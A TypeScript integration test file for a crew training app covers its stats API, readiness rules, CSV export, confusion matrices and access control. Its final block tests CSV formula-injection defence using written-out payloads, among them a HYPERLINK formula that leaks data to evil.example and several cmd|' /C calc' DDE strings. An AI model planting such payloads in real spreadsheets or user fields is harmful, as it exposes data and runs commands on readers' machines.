// The crew table, its CSV, the confusion views and the person page, over HTTP against the built
// server, on the known calls of tests/support/stats-fixture.ts.
import { parse } from 'csv-parse/sync'
import { quantile } from 'simple-statistics'
import { beforeAll, describe, expect, it } from 'vitest'
import { csvPersonId, signedIn } from '../support/client'
import { readDb, writeDb } from '../support/watch-fixture'
import { DAY, createStatsFixture } from '../support/stats-fixture'
import type { FixtureCall, StatsFixture } from '../support/stats-fixture'

let fx: StatsFixture
beforeAll(async () => {
  fx = await createStatsFixture()
})

// Names are written to the database directly: the API trims a leading tab or carriage return.
const readName = (userId: string) => readDb(db => (db.prepare('SELECT name FROM users WHERE id = ?').get(userId) as { name: string }).name)
const setName = (userId: string, name: string) => writeDb(db => db.prepare('UPDATE users SET name = ? WHERE id = ?').run(name, userId))

// Right calls: right type named in time (grade not missed), the rule of product.md's grades.
const rightLatencies = (calls: FixtureCall[], userId: string, sinceMs: number) =>
  calls.filter(c => c.userId === userId && c.correct && c.grade !== 'missed' && c.calledAt >= sinceMs).map(c => c.latencyMs!)

describe('GET /api/crews/[id]/stats', () => {
  it('gives each trainee the api.md fields, with quantiles equal to simple-statistics on the same latencies', async () => {
    const r = await fx.lead.client.get(`/api/crews/${fx.crewId}/stats?days=30`)
    expect(r.status).toBe(200)
    expect(r.body.rows).toHaveLength(4)
    const row = r.body.rows.find((x: { userId: string }) => x.userId === fx.trainees.t90.id)
    for (const k of ['userId', 'name', 'calls', 'accuracy', 'medianMs', 'p90Ms', 'ready', 'trend7', 'trend30', 'lastWatchAt', 'tracksDue', 'missing']) {
      expect(row, k).toHaveProperty(k)
    }
    const lat = rightLatencies(fx.calls, fx.trainees.t90.id, Date.now() - 30 * DAY)
    // Reference: simple-statistics quantile (R type 7), check-values.md "quantiles".
    expect(row.medianMs).toBe(quantile(lat, 0.5))
    expect(row.p90Ms).toBe(quantile(lat, 0.9))
    expect(row.calls).toBe(23)
    expect(row.accuracy).toBe(21 / 23)
    // The last-7-day trend uses only the calls of the last seven days.
    expect(row.trend7.medianMs).toBe(quantile(rightLatencies(fx.calls, fx.trainees.t90.id, Date.now() - 7 * DAY), 0.5))
    expect(row.tracksDue).toBe(2)
    expect(row.lastWatchAt).toBe(Math.max(...fx.calls.filter(c => c.userId === fx.trainees.t90.id).map(c => c.calledAt)))
  })

  it('follows the readiness standard at its boundaries: exactly 90 % and a median at the limit are ready', async () => {
    const r = await fx.lead.client.get(`/api/crews/${fx.crewId}/stats`)
    const by = (id: string) => r.body.rows.find((x: { userId: string }) => x.userId === id)
    // 18 of 20 right = 90 %: ready (the default standard of issue 5: at least 90 % right).
    expect(by(fx.trainees.t90.id).ready).toBe(true)
    expect(by(fx.trainees.t90.id).missing).toEqual([])
    // 17 of 19 right = 89.47 %: not ready, and the page says why.
    expect(by(fx.trainees.t89.id).ready).toBe(false)
    expect(by(fx.trainees.t89.id).missing.join(' ')).toMatch(/accuracy 89\.4% is below 90%/)
    // Median of right calls exactly the deck's 1500 ms hesitation limit: ready; 1 ms over: not.
    expect(by(fx.trainees.tmed.id).medianMs).toBe(1500)
    expect(by(fx.trainees.tmed.id).ready).toBe(true)
    expect(by(fx.trainees.tslow.id).medianMs).toBe(1501)
    expect(by(fx.trainees.tslow.id).ready).toBe(false)
    expect(by(fx.trainees.tslow.id).missing.join(' ')).toMatch(/hesitation limit/)
  })

  it('follows a standard the lead changes (92 % makes the 90 % trainee not ready)', async () => {
    const admin = await signedIn('admin@glint.demo')
    expect((await admin.patch(`/api/crews/${fx.crewId}`, { minAccuracy: 0.92 })).status).toBe(200)
    const r = await fx.lead.client.get(`/api/crews/${fx.crewId}/stats`)
    expect(r.body.rows.find((x: { userId: string }) => x.userId === fx.trainees.t90.id).ready).toBe(false)
    expect((await admin.patch(`/api/crews/${fx.crewId}`, { minAccuracy: 0.9 })).status).toBe(200)
  })

  it('filters by aspect and condition with the same quantile rule', async () => {
    const r = await fx.lead.client.get(`/api/crews/${fx.crewId}/stats?days=14&aspect=beam&condition=haze&deckId=${fx.deckId}`)
    expect(r.status).toBe(200)
    const row = r.body.rows.find((x: { userId: string }) => x.userId === fx.trainees.tmed.id)
    const lat = fx.calls.filter(c => c.userId === fx.trainees.tmed.id && c.aspect === 'beam' && c.condition === 'haze').map(c => c.latencyMs!)
    expect(row.calls).toBe(lat.length)
    expect(row.medianMs).toBe(quantile(lat, 0.5))
  })

  it('refuses bad filters with a sentence, and a deck of another crew', async () => {
    const bad = await fx.lead.client.get(`/api/crews/${fx.crewId}/stats?days=0`)
    expect(bad.status).toBe(400)
    expect(bad.body.message).toMatch(/day/)
    expect((await fx.lead.client.get(`/api/crews/${fx.crewId}/stats?aspect=sideways`)).status).toBe(400)
    expect((await fx.lead.client.get(`/api/crews/${fx.crewId}/stats?deckId=AAAAAAAAAAAAAAAAAAAAAA`)).status).toBe(404)
  })

  it('gives 403 to a lead of another crew, a trainee, and an instructor without a deck in the crew', async () => {
    const lead2 = await signedIn('lead2@glint.demo')
    expect((await lead2.get(`/api/crews/${fx.crewId}/stats`)).status).toBe(403)
    expect((await lead2.get(`/api/crews/${fx.crewId}/stats.csv`)).status).toBe(403)
    expect((await lead2.get(`/api/crews/${fx.crewId}/confusions`)).status).toBe(403)
    expect((await fx.trainees.t90.client.get(`/api/crews/${fx.crewId}/stats`)).status).toBe(403)
    const skerrow = (await (await signedIn('lead@glint.demo')).get('/api/auth/me')).body.crews[0].id
    // The fixture's instructor owns a deck assigned to the fixture crew only.
    expect((await fx.instructor.client.get(`/api/crews/${fx.crewId}/stats`)).status).toBe(200)
    expect((await fx.instructor.client.get(`/api/crews/${skerrow}/stats`)).status).toBe(403)
  })
})

describe('GET /api/crews/[id]/stats.csv', () => {
  // Issue 17, item 12: the numbers as the table shows them (percent, seconds with two decimals,
  // rounded half away from zero as Number.prototype.toFixed does, ECMA-262 §21.1.3.3), named
  // columns with units, times in the reader's time zone (IANA tz database: Pacific/Auckland is
  // UTC+13 in December, daylight time).
  it('parses back (csv-parse) to the table\'s numbers, with named columns, units and local times', async () => {
    const [json, csv] = await Promise.all([
      fx.lead.client.get(`/api/crews/${fx.crewId}/stats`),
      fx.lead.client.get(`/api/crews/${fx.crewId}/stats.csv?tz=Pacific/Auckland`),
    ])
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename=".+\.csv"$/)
    const records = parse(csv.text, { columns: true, bom: true }) as Record<string, string>[]
    expect(records).toHaveLength(json.body.rows.length)
    expect(Object.keys(records[0]!)).toContain('Median of right calls (s)')
    expect(Object.keys(records[0]!)).toContain('Last watch (Pacific/Auckland)')
    const sec = (ms: number | null) => (ms === null ? '' : (Math.round(ms / 10) / 100).toFixed(2))
    const pctClose = (text: string, share: number | null) => {
      if (share === null) return expect(text).toBe('')
      // Whole percent, or one decimal near a mark: within 0.1 point of the share.
      expect(Math.abs(Number(text) - share * 100)).toBeLessThanOrEqual(0.1)
      expect(text).toMatch(/^\d+(\.\d)?$/)
    }
    for (const row of json.body.rows) {
      const rec = records.find(x => csvPersonId(x) === row.userId)!
      expect(rec.Name).toBe(row.name)
      expect(Number(rec.Calls)).toBe(row.calls)
      pctClose(rec['Right (%)']!, row.accuracy)
      expect(rec['Median of right calls (s)']).toBe(sec(row.medianMs))
      expect(rec['90th percentile of right calls (s)']).toBe(sec(row.p90Ms))
      expect(rec.Ready).toBe(row.ready ? 'yes' : 'no')
      expect(rec['Median, last 7 days (s)']).toBe(sec(row.trend7.medianMs))
      expect(Number(rec['Tracks due'])).toBe(row.tracksDue)
      expect(rec['Not ready because']).toBe(row.missing.join('; '))
      if (row.lastWatchAt !== null) {
        // 13 hours ahead of UTC, written YYYY-MM-DD HH:MM.
        const nz = new Date(row.lastWatchAt + 13 * 3_600_000).toISOString()
        expect(rec['Last watch (Pacific/Auckland)']).toBe(`${nz.slice(0, 10)} ${nz.slice(11, 16)}`)
      }
    }
    const badZone = await fx.lead.client.get(`/api/crews/${fx.crewId}/stats.csv?tz=Mars/Olympus`)
    expect(badZone.status).toBe(400)
    expect(badZone.body.message).toMatch(/Unknown time zone/)
  })
})

describe('confusions', () => {
  it('counts the crew matrix of the fixture (called X when it was Y), computed by hand', async () => {
    const r = await fx.lead.client.get(`/api/crews/${fx.crewId}/confusions?deckId=${fx.deckId}&days=14`)
    expect(r.status).toBe(200)
    const names = r.body.types.map((t: { name: string }) => t.name)
    const at = (truth: string, called: string) => r.body.counts[names.indexOf(truth)][names.indexOf(called)]
    // By hand from the fixture: call i is type i % 3. Gannet: 7+7+7+7 = 28 calls, 2 called Petrel,
    // 1 with no call; Petrel: 7+6+7+7 = 27, 1 called Skua; Skua: 6+6+7+7 = 26, all right.
    expect(r.body.totals[names.indexOf('Fixture Gannet')]).toBe(28)
    expect(at('Fixture Gannet', 'Fixture Gannet')).toBe(25)
    expect(at('Fixture Gannet', 'Fixture Petrel')).toBe(2)
    expect(r.body.noCall[names.indexOf('Fixture Gannet')]).toBe(1)
    expect(r.body.totals[names.indexOf('Fixture Petrel')]).toBe(27)
    expect(at('Fixture Petrel', 'Fixture Skua')).toBe(1)
    expect(at('Fixture Petrel', 'Fixture Petrel')).toBe(26)
    expect(at('Fixture Skua', 'Fixture Skua')).toBe(26)
    expect(at('Fixture Skua', 'Fixture Gannet')).toBe(0)
  })

  it('lists the deck\'s worst pairs by aspect and condition for its own instructor only', async () => {
    const r = await fx.instructor.client.get(`/api/decks/${fx.deckId}/confusions?days=14`)
    expect(r.status).toBe(200)
    expect(r.body.overall[0]).toMatchObject({ truthName: 'Fixture Gannet', calledName: 'Fixture Petrel', count: 2 })
    // Both Gannet→Petrel calls were call #0 of a series: aspect beam, condition haze.
    expect(r.body.byAspect[0]).toMatchObject({ truthName: 'Fixture Gannet', calledName: 'Fixture Petrel', count: 2, aspect: 'beam' })
    expect(r.body.byCondition[0]).toMatchObject({ count: 2, condition: 'haze' })
    const other = await signedIn('instructor@glint.demo')
    expect((await other.get(`/api/decks/${fx.deckId}/confusions`)).status).toBe(403)
    expect((await fx.lead.client.get(`/api/decks/${fx.deckId}/confusions`)).status).toBe(403)
  })
})

describe('GET /api/people/[id]', () => {
  it('shows the person their own progress, with baseline and net recognition time', async () => {
    const r = await fx.trainees.t90.client.get(`/api/people/${fx.trainees.t90.id}?days=30`)
    expect(r.status).toBe(200)
    expect(r.body.self).toBe(true)
    expect(r.body.remindersOptOut).toBe(false)
    const lat = rightLatencies(fx.calls, fx.trainees.t90.id, Date.now() - 30 * DAY)
    expect(r.body.summary.medianMs).toBe(quantile(lat, 0.5))
    expect(r.body.latency).toHaveLength(lat.length)
    expect(r.body.baseline).toMatchObject({ simpleMs: 260, choiceMs: 420 })
    expect(r.body.netMs).toBe(quantile(lat, 0.5) - 420)
    expect(r.body.readiness[0].ready).toBe(true)
    expect(r.body.byAspect.map((b: { key: string }) => b.key).sort()).toEqual(['beam', 'head-on'])
    expect(r.body.confusions[0]).toMatchObject({ count: 1 })
    const them = await fx.trainees.t89.client.get(`/api/people/${fx.trainees.t89.id}`)
    expect(them.body.readiness[0].missing.join(' ')).toMatch(/accuracy/)
  })

  it('is open to the crew\'s lead and instructor, closed to another trainee and another crew\'s lead', async () => {
    expect((await fx.lead.client.get(`/api/people/${fx.trainees.t89.id}`)).status).toBe(200)
    expect((await fx.instructor.client.get(`/api/people/${fx.trainees.t89.id}`)).status).toBe(200)
    expect((await fx.trainees.t90.client.get(`/api/people/${fx.trainees.t89.id}`)).status).toBe(403)
    expect((await (await signedIn('lead2@glint.demo')).get(`/api/people/${fx.trainees.t89.id}`)).status).toBe(403)
    expect((await (await signedIn('admin@glint.demo')).get('/api/people/AAAAAAAAAAAAAAAAAAAAAA')).status).toBe(404)
  })
})

// Issue 14, item 8: a lead's powers over a person stop at the crews that lead leads.
describe('a lead and a person of two crews', () => {
  it('refuses a lead who adds an existing person to the lead\'s crew (403 with a sentence), and changes nothing', async () => {
    const admin = await signedIn('admin@glint.demo')
    const someone = (await admin.get<{ id: string, email: string }[]>('/api/admin/users')).body.find(u => u.email === 'trainee5@glint.demo')!
    const r = await fx.lead.client.post(`/api/crews/${fx.crewId}/members`, { userId: someone.id })
    expect(r.status).toBe(403)
    expect(r.body.message).toMatch(/admin.*invitation/)
    const crew = await fx.lead.client.get(`/api/crews/${fx.crewId}`)
    expect(crew.body.members.map((m: { id: string }) => m.id)).not.toContain(someone.id)
    expect((await fx.lead.client.get(`/api/people/${someone.id}`)).status).toBe(403)
  })

  it('shows another crew\'s lead only the decks of that lead\'s crew on the person page, not this crew\'s calls', async () => {
    const admin = await signedIn('admin@glint.demo')
    const lead2 = await signedIn('lead2@glint.demo')
    const vellan = (await lead2.get('/api/auth/me')).body.crews[0]
    const t = fx.trainees.t90
    expect((await admin.post(`/api/crews/${vellan.id}/members`, { userId: t.id })).status).toBe(200)
    try {
      const theirs = await lead2.get(`/api/people/${t.id}?days=30`)
      expect(theirs.status).toBe(200)
      // The fixture deck is assigned to the fixture crew only: none of its 23 calls may show.
      expect(theirs.body.decks.map((d: { id: string }) => d.id)).not.toContain(fx.deckId)
      expect(theirs.body.summary.calls).toBe(0)
      expect(theirs.body.latency).toEqual([])
      expect(theirs.body.readiness.map((d: { deckId: string }) => d.deckId)).not.toContain(fx.deckId)
      expect(theirs.body.person.crews).toEqual([{ id: vellan.id, name: vellan.name }])
      expect((await lead2.get(`/api/people/${t.id}?deckId=${fx.deckId}`)).status).toBe(404)
      // The fixture crew's own lead still sees the fixture deck and its calls.
      const own = await fx.lead.client.get(`/api/people/${t.id}?days=30`)
      expect(own.body.decks.map((d: { id: string }) => d.id)).toEqual([fx.deckId])
      expect(own.body.summary.calls).toBe(23)
    }
    finally {
      expect((await admin.del(`/api/crews/${vellan.id}/members/${t.id}`)).status).toBe(200)
    }
  })
})

// Issue 14, item 9. OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): a cell
// beginning with =, +, -, @, tab (0x09) or carriage return (0x0D) is read as a formula by
// spreadsheets; the advice is to prefix such a cell with a single quote.
describe('stats.csv and formula cells', () => {
  const names = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
  ]
  it.each(names)('writes the name %j with a leading quote', async (name) => {
    const t = fx.trainees.tslow
    const before = readName(t.id)
    setName(t.id, name)
    try {
      const csv = await fx.lead.client.get(`/api/crews/${fx.crewId}/stats.csv`)
      expect(csv.status).toBe(200)
      const records = parse(csv.text, { columns: true, bom: true }) as Record<string, string>[]
      expect(records.find(x => csvPersonId(x) === t.id)!.Name).toBe(`'${name}`)
      // Plain names and numbers are not touched.
      expect(records.find(x => csvPersonId(x) === fx.trainees.t90.id)!.Name).toMatch(/^Test trainee/)
      expect(Number(records.find(x => csvPersonId(x) === t.id)!.Calls)).toBeGreaterThan(0)
    }
    finally {
      setName(t.id, before)
    }
  })
})
